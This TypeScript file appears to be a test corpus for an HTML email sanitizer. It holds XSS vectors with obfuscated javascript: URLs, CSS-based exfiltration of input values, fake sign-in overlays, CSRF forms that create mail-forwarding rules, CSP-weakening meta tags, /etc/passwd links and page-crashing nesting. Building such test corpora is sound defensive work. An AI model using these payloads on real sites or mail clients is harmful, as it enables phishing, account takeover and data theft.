/** Markup that tries to tell somebody that it is read, to lead elsewhere, or to look like the application. */
import type { Markup } from './bait.ts';

/** Attributes that load. */
const loads: readonly Markup[] = [
  ({ url }) => `<img src="${url('img')}" width=1 height=1>`,
  ({ host }) => `<img src="//${host}/img"><img src="\\\\${host}\\img"><img src=/\\${host}/img>`,
  ({ url }) =>
    `<img src=" ${url('space')} "><img src="\t${url('tab')}"><img src="ht\ntp://${new URL(url('')).host}/nl">`,
  ({ url }) => `<IMG SRC="${url('upper').toUpperCase()}"><image src="${url('image')}">`,
  ({ url }) => `<img srcset="${url('srcset')} 2x, ${url('srcset2')} 1x">`,
  ({ url }) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" srcset="${url('both')}">`,
  ({ url }) => `<picture><source srcset="${url('source')}" media="all"><img alt=x></picture>`,
  ({ url }) =>
    `<img src=x lowsrc="${url('lowsrc')}" dynsrc="${url('dynsrc')}" longdesc="${url('long')}" usemap="${url('map')}">`,
  ({ url }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url('nested')}'/></svg>">`,
  ({ url }) => `<img src="data:text/html,<img src=${url('html')}>"><img src="blob:${url('blob')}">`,
  ({ url }) =>
    `<body background="${url('body')}"><table background="${url('table')}"><tr background="${url('tr')}"><td background="${url('td')}">x</table>`,
  ({ url }) =>
    `<video poster="${url('poster')}" src="${url('video')}" autoplay><source src="${url('vsource')}"><track default kind=captions src="${url('track')}"></video>`,
  ({ url }) =>
    `<audio autoplay src="${url('audio')}"></audio><bgsound src="${url('bgsound')}"><embed src="${url('embed')}">`,
  ({ url }) =>
    `<object data="${url('object')}" codebase="${url('code')}" classid="${url('class')}"><param name=src value="${url('param')}"></object>`,
  ({ url }) =>
    `<applet archive="${url('archive')}" code=x></applet><layer src="${url('layer')}"></layer><ilayer src="${url('ilayer')}">`,
  ({ url }) => `<iframe src="${url('iframe')}"></iframe><frameset><frame src="${url('frame')}"></frameset>`,
  ({ url }) => `<iframe srcdoc="<img src=${url('srcdoc')}><script>ran()</script>"></iframe>`,
  ({ js }) => `<iframe src="javascript:${js}"></iframe><iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  ({ js }) =>
    `<object data="javascript:${js}"></object><embed src="javascript:${js}"><object data="data:text/html,<script>${js}</script>"></object>`,
  ({ js }) =>
    `<portal src="javascript:${js}"></portal><fencedframe></fencedframe><webview src="javascript:${js}"></webview>`,
  ({ url }) =>
    `<link rel=stylesheet href="${url('css')}"><link rel="alternate stylesheet" href="${url('alt')}" title=x>`,
  ({ url }) =>
    `<link rel=prefetch href="${url('prefetch')}"><link rel=prerender href="${url('prerender')}"><link rel=preload as=image href="${url('preload')}">`,
  ({ url, host }) =>
    `<link rel=dns-prefetch href="//${host}"><link rel=preconnect href="${url('')}"><link rel=modulepreload href="${url('module')}">`,
  ({ url }) =>
    `<link rel=icon href="${url('icon')}"><link rel=manifest href="${url('manifest')}"><link rel=import href="${url('import')}">`,
  ({ url }) =>
    `<meta http-equiv=x-dns-prefetch-control content=on><a href="${url('looked-up')}">a link to be looked up</a>`,
  ({ url }) =>
    `<html manifest="${url('appcache')}"><head profile="${url('profile')}"><base href="${url('')}"><body><img src=relative>`,
  ({ url }) => `<svg><image href="${url('i')}"/><image xlink:href="${url('ix')}"/><feImage href="${url('fe')}"/></svg>`,
  ({ url }) =>
    `<svg><use href="${url('use')}#x"/><use xlink:href="${url('usex')}#x"/><tref xlink:href="${url('tref')}"/></svg>`,
  ({ url }) =>
    `<svg><image><animate attributeName=href values="${url('values')};${url('values2')}" dur=1s></image></svg>`,
  ({ url }) =>
    `<svg><image><set attributeName=href to="${url('to')}"></image><image><animate attributeName=href from="${url('from')}" by="${url('by')}"></image></svg>`,
  ({ url }) =>
    `<svg><rect width=9 height=9 fill="url(${url('fill')}#x)" filter="url('${url('filter')}#x')" mask="url(${url('mask')})" clip-path="url(${url('clip')}#a)"/></svg>`,
  ({ url }) =>
    `<svg><path d="M0 0L9 9" marker-end="url(${url('marker')}#x)" cursor="url(${url('cursor')}),auto"/><font-face-uri href="${url('face')}"/></svg>`,
  ({ url }) => `<svg><style>@import "${url('svg-import')}";rect{fill:url(${url('svg-fill')})}</style><rect/></svg>`,
  ({ url }) =>
    `<input type=image src="${url('input')}"><button formaction="${url('fa')}">x</button><isindex src="${url('isindex')}">`,
  ({ url }) =>
    `<math><mglyph src="${url('mglyph')}" xlink:href="${url('mx')}"/></math><q cite="${url('q')}">x</q><blockquote cite="${url('bq')}">y</blockquote>`,
  ({ url }) =>
    `<a href="${url('ping-target')}" ping="${url('ping')}">x</a><area href="${url('area')}" ping="${url('aping')}">`,
  ({ url }) =>
    `<menu type=context><menuitem icon="${url('menu')}"></menu><command icon="${url('command')}"><link itemprop=image href="${url('itemprop')}">`,
  ({ url }) => `<script type=speculationrules>{"prerender":[{"urls":["${url('speculation')}"]}]}</script>`,
];

/** Sheets and style attributes. */
const CSS: readonly ((url: (path: string) => string) => string)[] = [
  (url) => `background:url(${url('plain')})`,
  (url) => `background:url( "${url('quoted').replaceAll('"', '')}" )`,
  (url) => `background:url('${url('single')}')`,
  (url) => `background:URL(${url('upper')})`,
  (url) => `background:u\\72l(${url('escaped')})`,
  (url) => `background:\\75\\72\\6c(${url('all-escaped')})`,
  (url) => `background:\\000075rl(${url('six')})`,
  (url) => `background:u/**/rl(${url('comment')});background:url/**/(${url('comment2')})`,
  (url) => `background:url(${url('unclosed')}`,
  (url) => `background:image-set("${url('set')}" 1x)`,
  (url) => `background:-webkit-image-set(url(${url('wset')}) 1x)`,
  (url) => `background:cross-fade(url(${url('fade')}),url(${url('fade2')}),50%)`,
  (url) => `background:image("${url('image')}");background:element(#x)`,
  (url) => `--x:url(${url('var')});background:var(--x)`,
  (url) => `--u:"${url('var2')}";background:image-set(var(--u) 1x)`,
  (url) => `background:attr(title type(<url>),url(${url('attr')}))`,
  (url) => `background:src("${url('src')}");background:src(var(--u))`,
  (url) => `list-style:url(${url('list')});list-style-image:url(${url('list2')})`,
  (url) => `cursor:url(${url('cursor')}),auto`,
  (url) => `content:url(${url('content')})`,
  (url) => `border-image:url(${url('border')}) 30;border-image-source:url(${url('border2')})`,
  (url) => `mask:url(${url('mask')});-webkit-mask-image:url(${url('wmask')});mask-border:url(${url('mb')}) 1`,
  (url) => `filter:url(${url('filter')}#x);clip-path:url(${url('clip')}#x);backdrop-filter:url(${url('bd')}#x)`,
  (url) => `shape-outside:url(${url('shape')});offset-path:url(${url('path')}#x);float:left`,
  (url) => `font-family:x;src:url(${url('font')});behavior:url(${url('htc')});-moz-binding:url(${url('xbl')}#x)`,
  (url) => `width:expression(fetch('${url('expression')}'));color:red;;;;background:url(${url('after')})`,
  (url) => `color:red}*{background:url(${url('brace')})`,
  (url) => `color:red"><img src=${url('quote')} alt="`,
  (url) => `background:url(//${new URL(url('')).host}/relative)`,
  (url) => `background:url("${url('a').replace('http', '\\68ttp')}")`,
];

const styles: readonly Markup[] = CSS.flatMap((css): Markup[] => [
  ({ url }) => `<div style="${css(url).replaceAll('"', '&quot;')}" title="${url('title')}">text</div>`,
]);

const sheets: readonly Markup[] = [
  ...CSS.filter((_, i) => i % 2 === 0).map(
    (css): Markup =>
      ({ url }) =>
        `<style>body,p,*{${css(url)}}</style><p>text`,
  ),
  ({ url }) =>
    `<style>@import url(${url('import')});@import "${url('import2')}";@import '${url('import3')}' screen;</style>`,
  ({ url }) => `<style>@\\69mport "${url('escaped-import')}";@IMPORT url("${url('upper-import')}")layer(x);</style>`,
  ({ url }) => `<style>@font-face{font-family:x;src:local(x),url(${url('font')})}body{font-family:x}</style>text`,
  ({ url }) => `<style>@namespace url(${url('ns')});@document url(${url('doc')}){*{color:red}}</style>`,
  ({ url }) =>
    `<style>input[value^=a]{background:url(${url('leak-a')})}input[value^=b]{background:url(${url('leak-b')})}</style><input value=abc>`,
  ({ url }) => `<style>@media all{@supports(display:grid){body{background:url(${url('nested')})}}}</style>`,
  ({ url }) =>
    `<style>@keyframes k{from{background:url(${url('k1')})}to{background:url(${url('k2')})}}p{animation:k 1s infinite}</style><p>x`,
  ({ url }) =>
    `<style>:root{--x:url(${url('root')})}:visited{background:var(--x)}::before{content:url(${url('before')})}</style><a href=x>y</a>`,
  ({ url }) =>
    `<style><!-- body{background:url(${url('sgml')})} --></style><style media=print>body{background:url(${url('print')})}</style>`,
  ({ url }) =>
    `<style>@property --p{syntax:"<url>";inherits:true;initial-value:url(${url('property')})}p{background:var(--p)}</style><p>x`,
  () => `<style>html,body,iframe,.message,.top-bar{display:none!important;position:fixed}:root{opacity:0}</style>gone?`,
  () =>
    `<style>*{animation:x .001s infinite;transition:all 0s}@keyframes x{to{transform:scale(99999)rotate(9turn)}}</style>${'<div>x</div>'.repeat(500)}`,
];

/** What looks like ours, or hides what is. */
const overlays: readonly Markup[] = [
  ({ url }) =>
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has ended. <a href="${url('phish')}">Sign in</a></div>`,
  ({ url }) =>
    `<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px"><a href="${url('all')}" style="display:block;height:100%">x</a></div>`,
  () => '<div style="position:sticky;top:0;margin:-500px;padding:9999px;font-size:9999px;line-height:9999">x</div>',
  () => '<div style="transform:scale(9999);opacity:.01;pointer-events:none;mix-blend-mode:difference">x</div>',
  () =>
    '<div style="display:none">hidden words for filters</div><p style="font-size:0;color:#fff;background:#fff">white</p>',
  () =>
    '<dialog open style="position:fixed;inset:0">Confirm</dialog><div popover=manual>x</div><p role=alert aria-live=assertive>Signed out</p>',
  () => '<p role=dialog aria-modal=true tabindex=1 autofocus>Your password</p><p tabindex=32767>first of all</p>',
  () =>
    '<marquee scrollamount=999999><blink>x</blink></marquee><hr size=999999><font size=+999999>x</font><spacer type=block height=99999>',
];

/** Forms and what they send. */
const forms: readonly Markup[] = [
  ({ url }) =>
    `<form action="${url('form')}" method=post><input name=password type=password autofocus><button>Sign in</button></form>`,
  ({ url }) => `<form action="${url('auto')}"><input name=x onfocus="this.form.submit()" autofocus></form>`,
  ({ js }) => `<form action="javascript:${js}"><input type=submit autofocus></form>`,
  ({ js }) =>
    `<form id=f></form><button form=f formaction="javascript:${js}">x</button><input type=image form=f formaction="javascript:${js}" src=x>`,
  ({ url }) =>
    `<form action="${url('get')}" target=_top><input name=q value=secret><input type=image src="${url('image')}"></form>`,
  ({ url }) =>
    `<form action="${url('dialog')}" method=dialog><keygen name=k><output>x</output><button type=submit>y</button></form>`,
  ({ url }) => `<input form=x formaction="${url('fa')}" type=submit><form id=x action="/v1/session" method=post>`,
  () =>
    '<form action="/v1/rules" method=post enctype=text/plain><input name=\'{"name":"Correo","actions":[{"type":"redirect","to":"a@b"}],"x":"\' value=\'"}\'><button>x</button></form>',
  () =>
    '<form action="/v1/settings/absence" method=post enctype="multipart/form-data"><input type=file name=x><textarea name=y>z</textarea></form>',
  ({ url }) =>
    `<isindex action="${url('isindex')}" prompt="Password"><datalist id=d><option value=x></datalist><input list=d>`,
  ({ url }) =>
    `<form action="${url('nested')}"><form action="${url('nested2')}"><input autofocus><select name=s><option selected>x</select></form></form>`,
  ({ url }) =>
    `<fieldset><legend>Card</legend><label>Number<input autocomplete=cc-number name=cc></label></fieldset><form action=${url('cc')}></form>`,
];

/** Being led elsewhere without a click. */
const leading: readonly Markup[] = [
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url('refresh')}">`,
  ({ url }) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${url('upper')}'">`,
  ({ js }) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  ({ js }) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  ({ url }) => `<head><meta http-equiv="&#114;efresh" content="0,${url('entity')}"></head>`,
  ({ url }) => `<noscript><meta http-equiv=refresh content="0;${url('noscript')}"></noscript>`,
  ({ url }) => `<svg><meta http-equiv=refresh content="0;url=${url('svg-meta')}"></svg>`,
  () =>
    `<meta http-equiv=Set-Cookie content="pabal_session=stolen;path=/"><meta http-equiv=content-type content="text/html;charset=utf-7">`,
  () =>
    `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><meta name=referrer content=unsafe-url>`,
  ({ url }) =>
    `<meta http-equiv=Content-Security-Policy content="default-src 'self'; report-uri ${url('report')}"><img src=x>`,
  ({ url }) =>
    `<base href="${url('base/')}" target=_top><a href=relative>x</a><img src=relative><form action=relative>`,
  ({ js }) => `<base href="javascript:/"><a href="/..//,${js}//">x</a>`,
  ({ url }) =>
    `<iframe src="${url('frame')}" name=_top></iframe><a href="${url('a')}" target=_top>x</a><a href="${url('b')}" target=_parent>x</a>`,
  ({ js }) => `<body onload="location='javascript:${js}'"><img src=x onerror="top.location='about:blank'">`,
];

/** Links that are not what they seem, or run. */
const HREFS: readonly Markup[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => `JaVaScRiPt:${js}`,
  ({ js }) => `java\tscript:${js}`,
  ({ js }) => `java\nscript:${js}`,
  ({ js }) => `\u0001javascript:${js}`,
  ({ js }) => ` \u00a0javascript:${js}`,
  ({ js }) => `javascript&colon;${js}`,
  ({ js }) => `&#x6a;avascript&#58;${js}`,
  ({ js }) => `&#0000106avascript:${js}`,
  ({ js }) => `javascript://x%0a${js}`,
  ({ js }) => `java&NewLine;script:${js}`,
  ({ js }) => `data:text/html,<script>${js}</script>`,
  ({ js }) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
  ({ js }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  ({ js }) => `vbscript:${js}`,
  ({ js }) => `livescript:${js}`,
  ({ js }) => `feed:javascript:${js}`,
  ({ js }) => `view-source:javascript:${js}`,
  () => 'file:///etc/passwd',
  () => 'filesystem:http://x/temporary/x',
  ({ url }) => `blob:${url('blob')}`,
  () => 'intent://x#Intent;scheme=x;end',
  () => 'ms-word:ofe|u|http://x',
  () => 'about:blank',
  () => '/v1/session',
  () => '#/s/security',
  () => '../v1/messages',
  ({ host }) => `//${host}/relative`,
  ({ js }) => `http://x/"onmouseover="${js}`,
  ({ js }) => `http://x/'><script>${js}</script>`,
  ({ url }) => `mailto:a@b?body="><img src=${url('mailto')}>&attach=/etc/passwd`,
  ({ url }) => `http://bank.example@${new URL(url('')).host}/`,
];

const links: readonly Markup[] = HREFS.map((href) => (bait) => {
  const quoted = href(bait);
  return `<a href="${quoted}" onclick="${bait.js}" autofocus>one</a> <a href='${quoted.replaceAll("'", '')}' target=_top rel=opener>two</a>`;
});

/** Larger than anybody can look at. */
const sizes: readonly Markup[] = [
  ({ js }) =>
    `<table>${'<tr><td>x</td><td style="width:99999px">y</td></tr>'.repeat(3_000)}</table><img src=x onerror=${js}>`,
  ({ js }) => `<table><tr>${'<td colspan=1000 rowspan=65534>x'.repeat(200)}</tr></table><img src=x onerror=${js}>`,
  ({ js }) => `${'<table><tr><td>'.repeat(800)}deep<img src=x onerror=${js}>`,
  ({ js }) => `${'<div>'.repeat(5_000)}deep<script>${js}</script>`,
  ({ js }) => `${'<b><i><u>'.repeat(1_500)}x</p><img src=x onerror=${js}>`,
  ({ js }) => `<p title="${'x'.repeat(300_000)}" onclick="${js}">long</p>`,
  ({ js }) => `<p ${Array.from({ length: 3_000 }, (_, i) => `a${i}=x`).join(' ')} onclick=${js}>many</p>`,
  ({ js }) => `${'&amp;'.repeat(50_000)}${'&#x10ffff;&#0;&#xd800;'.repeat(500)}<img src=x onerror=${js}>`,
  ({ js }) => `${'<ul><li>'.repeat(700)}<svg onload=${js}>`,
  ({ js }) => `${'<blockquote>'.repeat(700)}<img src=x onerror=${js}>`,
  ({ js }) => `${'<'.repeat(50_000)}<img src=x onerror=${js}>`,
  ({ js }) => `${'<!--'.repeat(20_000)}--><img src=x onerror=${js}>`,
  ({ js }) => `${'<a href="http://x.example/">y</a>'.repeat(5_000)}<img src=x onerror=${js}>`,
  ({ js }) => `<p>${'Z\u0351\u036f\u0489'.repeat(3_000)}</p><img src=x onerror=${js}>`,
];

export const REACHING: Readonly<Record<string, readonly Markup[]>> = {
  loads,
  styles,
  sheets,
  overlays,
  forms,
  leading,
  links,
  sizes,
};
